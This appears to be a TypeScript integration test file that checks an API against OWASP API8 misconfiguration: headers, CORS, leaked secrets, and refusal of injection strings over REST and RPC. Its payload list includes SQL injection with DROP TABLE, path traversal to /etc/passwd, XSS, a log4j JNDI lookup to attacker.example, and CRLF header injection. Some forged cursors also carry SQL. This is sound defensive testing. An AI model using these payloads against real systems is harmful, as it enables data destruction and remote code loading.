/**
 * OWASP API8:2023 Security Misconfiguration, and the injection it no longer
 * lists apart. Every answer carries the hardening headers and names no server
 * software; no origin is granted CORS; refusals carry no stack, SQL or driver
 * names; the public documents hold no secret; and an injection string in any
 * filter, sort, field list or cursor, on REST or RPC, is a 400 naming the
 * parameter (or, for free text, a search for that text) and changes nothing.
 * The opaque 500 is tested in test/integration/failures.test.ts and rpc-door.test.ts.
 */
import { assert, layer } from "@effect/vitest"
import { Effect } from "effect"
import { asyncApiPath, docsPath, openApiPath } from "../../src/api/Documentation.ts"
import { apiKeysPath, issueKey } from "../support/ApiKeys.ts"
import { customersPath } from "../support/Customers.ts"
import { testServiceWithDatabase } from "../support/Database.ts"
import { call, createCustomer, expectProblem, invalidPaths } from "../support/Http.ts"
import { exitsOf, failureType, message, postRpc } from "../support/Rpc.ts"
import { createSegment, manualSegment } from "../support/SegmentsApi.ts"
import { changesNothing, concretePath, operations } from "../support/Security.ts"
import { json, natsUrl, testJwtSecret, TestService } from "../support/TestService.ts"

/** What attackers put in parameters: SQL, NoSQL operators, traversal, template and log4j strings, NUL, CRLF. */
const injections = [
  "' OR '1'='1",
  "1; DROP TABLE customers; --",
  "name; SELECT pg_sleep(10)",
  "id,email FROM customers --",
  "{\"$gt\": \"\"}",
  "../../../etc/passwd",
  "<script>alert(1)</script>",
  "${jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "a\u0000b",
  "a\r\nSet-Cookie: x=1"
]

/** Parameters whose value is text to search for: an injection there is a search that finds nothing. */
const freeText = new Set(["q"])

layer(testServiceWithDatabase(), { excludeTestServices: true })("API8 security misconfiguration", (it) => {
  it.effect("every answer, success or refusal, is nosniff, personal data no-store, and names no server software", () =>
    Effect.gen(function*() {
      const customer = yield* createCustomer()
      const paths = [
        `${customersPath}/${customer.id}`,
        customersPath,
        `${customersPath}/not-a-uuid`,
        "/api/v1/no-such-route",
        apiKeysPath,
        "/health",
        openApiPath
      ]
      for (const path of paths) {
        const response = yield* call("GET", path)
        assert.strictEqual(response.headers.get("x-content-type-options"), "nosniff", path)
        assert.isNull(response.headers.get("x-powered-by"), path)
        assert.notMatch(response.headers.get("server") ?? "", /\d/, path)
        if (path.startsWith("/api/v1/") && path !== openApiPath) {
          assert.strictEqual(response.headers.get("cache-control"), "no-store", path)
        }
      }
    }))

  it.effect("no origin is granted CORS: a preflight or a cross-origin read gets no Access-Control-Allow-* header", () =>
    Effect.gen(function*() {
      yield* changesNothing(Effect.gen(function*() {
        const preflight = yield* call("OPTIONS", customersPath, {
          auth: false,
          headers: {
            origin: "https://attacker.example",
            "access-control-request-method": "DELETE",
            "access-control-request-headers": "authorization"
          }
        })
        assert.isAtLeast(preflight.status, 400)
        assert.isNull(preflight.headers.get("access-control-allow-origin"))
        assert.isNull(preflight.headers.get("access-control-allow-credentials"))
        const read = yield* call("GET", customersPath, { headers: { origin: "https://attacker.example" } })
        assert.strictEqual(read.status, 200)
        assert.isNull(read.headers.get("access-control-allow-origin"))
      }))
    }))

  it.effect("methods a route does not have are 405 problems without internals", () =>
    Effect.gen(function*() {
      yield* changesNothing(Effect.gen(function*() {
        for (const [method, path] of [["PUT", customersPath], ["PATCH", customersPath], ["DELETE", apiKeysPath]] as const) {
          const response = yield* call(method, path)
          yield* expectProblem(response, 405, "/problems/method-not-allowed")
        }
      }))
    }))

  it.effect("the public documents hold no secret and none of the service's own addresses", () =>
    Effect.gen(function*() {
      const { databaseUrl } = yield* TestService
      for (const path of [openApiPath, asyncApiPath, docsPath]) {
        const response = yield* call("GET", path, { auth: false })
        assert.strictEqual(response.status, 200, path)
        const text = yield* Effect.promise(() => response.text())
        assert.notInclude(text, testJwtSecret, path)
        // Addresses as such may appear (NATS's default as an example, the /docs bundle's list of local hosts);
        // the ones this instance was configured with must not.
        for (const secret of [databaseUrl, new URL(databaseUrl).pathname.slice(1), natsUrl, new URL(databaseUrl).host]) {
          assert.notInclude(text, secret, path)
        }
        assert.notMatch(text, /BEGIN (RSA |EC )?PRIVATE KEY/, path)
      }
    }))

  it.effect("an injection string in any query parameter of any list is a 400 naming it, or a literal search; nothing changes", () =>
    Effect.gen(function*() {
      const customer = yield* createCustomer()
      const segment = yield* createSegment(manualSegment())
      yield* issueKey("agent", "injection probe")
      const queried = operations.filter((operation) => operation.method === "GET" && operation.query.length > 0)
      assert.isAtLeast(queried.length, 8)
      let refusals = 0
      yield* changesNothing(Effect.forEach(queried, (operation) =>
        Effect.forEach(operation.query, (parameter) =>
          Effect.forEach(injections, (injection) =>
            Effect.gen(function*() {
              const id = operation.path.includes("segments/{id}") ? segment.id : customer.id
              const path = `${concretePath(operation.path, { id })}?${new URLSearchParams({ [parameter]: injection })}`
              const response = yield* call("GET", path)
              const label = `${operation.id} ${parameter}=${JSON.stringify(injection)}`
              if (freeText.has(parameter) && response.status === 200) {
                const page = yield* json<{ readonly data: ReadonlyArray<unknown> }>(response)
                assert.deepStrictEqual(page.data, [], label)
                return
              }
              assert.strictEqual(response.status, 400, label)
              const type = (yield* Effect.promise(() => response.clone().json() as Promise<{ readonly type: string }>)).type
              // A cursor that decodes as text but names no position is the domain's invalid-cursor.
              if (parameter === "cursor" && type === "/problems/invalid-cursor") {
                yield* expectProblem(response, 400, type)
              } else {
                const problem = yield* expectProblem(response, 400, "/problems/invalid-request")
                assert.isTrue(invalidPaths(problem).some((at) => at.startsWith(`query.${parameter}`)), label)
              }
              refusals++
            })), { concurrency: 4 })))
      assert.isAtLeast(refusals, 300)
    }))

  it.effect("every paged list refuses a forged cursor (SQL inside, broken JSON) with a 400", () =>
    Effect.gen(function*() {
      const forgedCursors = [
        Buffer.from("{\"sort\":\"createdAt\",\"value\":\"' OR 1=1 --\",\"id\":\"x\"}").toString("base64url"),
        Buffer.from("id > 0; DROP TABLE customers").toString("base64url"),
        "eyJ9"
      ]
      const paged = operations.filter((operation) => operation.query.includes("cursor"))
      yield* changesNothing(Effect.forEach(paged, (operation) =>
        Effect.forEach(forgedCursors, (cursor) =>
          Effect.gen(function*() {
            const response = yield* call("GET", `${concretePath(operation.path)}?cursor=${cursor}`)
            assert.strictEqual(response.status, 400, `${operation.id} cursor ${cursor}`)
            const problem = yield* Effect.promise(() => response.clone().json() as Promise<{ readonly type: string }>)
            assert.include(["/problems/invalid-cursor", "/problems/invalid-request"], problem.type, operation.id)
            yield* expectProblem(response, 400, problem.type)
          }))))
    }))

  it.effect("over RPC, the same injections in ListCustomers' filters are refused, naming the field", () =>
    Effect.gen(function*() {
      yield* changesNothing(Effect.forEach(injections, (injection) =>
        Effect.gen(function*() {
          // A cursor is opaque text to the schema: the call fails with the domain's invalid-cursor.
          const response = yield* postRpc([message({ tag: "ListCustomers", payload: { cursor: injection } })])
          assert.strictEqual(response.status, 200)
          const [exit] = yield* exitsOf(response)
          assert.strictEqual(failureType(exit), "/problems/invalid-cursor", JSON.stringify(injection))
        })))
      yield* changesNothing(Effect.forEach(["sort", "fields", "tag", "country", "status"], (field) =>
        Effect.forEach(injections, (injection) =>
          Effect.gen(function*() {
            const response = yield* postRpc([message({ tag: "ListCustomers", payload: { [field]: injection } })])
            const label = `ListCustomers ${field}=${JSON.stringify(injection)}`
            assert.strictEqual(response.status, 400, label)
            const problem = yield* expectProblem(response, 400, "/problems/invalid-request")
            assert.isTrue(invalidPaths(problem).some((path) => path.includes(field)), `${label}: ${invalidPaths(problem)}`)
          }))))
    }))
})
